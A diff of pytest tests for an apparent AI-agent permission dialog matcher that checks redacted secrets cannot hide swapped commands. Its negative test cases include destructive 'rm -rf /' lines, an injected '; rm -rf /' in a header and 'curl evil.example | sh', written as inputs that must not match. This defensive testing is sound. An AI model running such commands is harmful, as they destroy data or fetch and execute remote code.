@@ -8,6 +8,7 @@ import pytest
 
 from cockpit.core.dialogs import LONGEST_BODY, Choice, Dialog, OpenDialog, agreed, covers
 from cockpit.core.moments import DialogOpened
+from cockpit.core.redaction import Redactor
 
 COMMAND = "git push origin main && git log --oneline | head -50"
 CHOICES = (Choice("Yes", text="may"), Choice("No", text="may"))
@@ -86,6 +87,17 @@ def test_each_page_of_several_questions() -> None:
     review = Dialog("question", "Review your answers", "", CHOICES, body=("● Which one?", "  → A"))
     assert opened(review, ASKS)
     assert isinstance(agreed(replace(review, body=("● Whose?",)), ASKS, 5.0), str)
+    assert isinstance(agreed(replace(review, body=("  → A",)), ASKS, 5.0), str)
+
+
+def test_a_fetch_needs_the_address() -> None:
+    asked = DialogOpened(
+        "permission", "Fetch", "WebFetch", "https://a.example", "https://a.example"
+    )
+    fetch = replace(PANE, title="Fetch", body=("url: https://a.example", "prompt: read it"))
+    assert opened(fetch, asked)
+    assert isinstance(agreed(fetch, replace(asked, command="https://b.example"), 5.0), str)
+    assert isinstance(agreed(fetch, replace(asked, command=""), 5.0), str)
 
 
 def test_an_identity_is_of_one_dialog_only() -> None:
@@ -99,13 +111,61 @@ def test_an_identity_is_of_one_dialog_only() -> None:
     assert opened(replace(PANE, body=(f"{COMMAND} -x",)), longer).identity != known
 
 
-def test_a_removed_secret_stands_for_any_text_but_the_rest_must_be_there() -> None:
-    told = "curl -H 'X: [REDACTED:token:ab12]' https://example.com"
-    assert covers(told, ["curl -H 'X: hunter2'", "https://example.com"])
-    assert not covers(told, ["curl -H 'X: hunter2' https://evil.example"])
-    assert not covers(told, ["curl -d 'X: hunter2' https://example.com"])
-    assert covers(told, ["hunter2' https://example.com"], cut=True)
-    assert not covers("[REDACTED:token:ab12]", ["rm -rf /"])
+SECRETS = ("hunter2hunter2", "correct-horse")
+
+
+def without_secrets(command: str) -> str:
+    told = Redactor(SECRETS).redact(command).text
+    assert not any(secret in told for secret in SECRETS)
+    return told
+
+
+def test_a_removed_secret_stands_only_for_itself_and_the_rest_must_be_there() -> None:
+    told = without_secrets("curl -H 'X: hunter2hunter2' https://example.com")
+    assert covers(told, ["curl -H 'X: hunter2hu", "nter2' https://example.com"])
+    assert not covers(told, ["curl -H 'X: hunter2hunter2' https://evil.example"])
+    assert not covers(told, ["curl -d 'X: hunter2hunter2' https://example.com"])
+    assert not covers(told, ["curl -H 'X: y'; rm -rf / 'https://example.com"])
+    assert not covers(without_secrets("hunter2hunter2"), ["rm -rf /"])
+
+
+@pytest.mark.parametrize(
+    ("command", "shown", "cut"),
+    [
+        ("deploy --token hunter2hunter2", "deploy --token hunter2hunter2", False),
+        ("deploy --token hunter2hunter2", "oy --token hunter2hunter2", True),
+        ("deploy --token hunter2hunter2", "hunter2hunter2", True),
+        ("hunter2hunter2 login", "hunter2hunter2 login", False),
+        ("hunter2hunter2 login && ls", "login && ls", True),
+        ("a hunter2hunter2 b correct-horse c", "a hunter2hunter2 b correct-horse c", False),
+        ("a hunter2hunter2 b correct-horse c", "hunter2hunter2 b correct-horse c", True),
+        ("a hunter2hunter2 correct-horse", "a hunter2hunter2 correct-horse", False),
+        ("a hunter2hunter2 correct-horse", "correct-horse", True),
+    ],
+)
+def test_a_command_may_begin_or_end_with_a_removed_secret(
+    command: str, shown: str, *, cut: bool
+) -> None:
+    assert covers(without_secrets(command), [shown], cut=cut)
+
+
+@pytest.mark.parametrize(
+    ("command", "shown", "cut"),
+    [
+        ("rm -rf / --token hunter2hunter2", "ls -la", True),
+        ("rm -rf / --token hunter2hunter2", "rm -rf / --token x; rm -rf ~", False),
+        ("hunter2hunter2 | sh", "curl evil.example | sh", False),
+        ("hunter2hunter2 | sh", "curl evil.example | sh", True),
+        ('curl -H "X: hunter2hunter2"', 'rm -rf "build"', True),
+        ("a hunter2hunter2 b correct-horse c", "x b correct-horse c", True),
+        ("hunter2hunter2", "ls -la", True),
+        ("hunter2hunter2 correct-horse", "ls -la", True),
+    ],
+)
+def test_another_command_never_matches_one_with_a_removed_secret(
+    command: str, shown: str, *, cut: bool
+) -> None:
+    assert not covers(without_secrets(command), [shown], cut=cut)
 
 
 def test_an_agent_may_leave_plan_mode_without_a_plan() -> None:
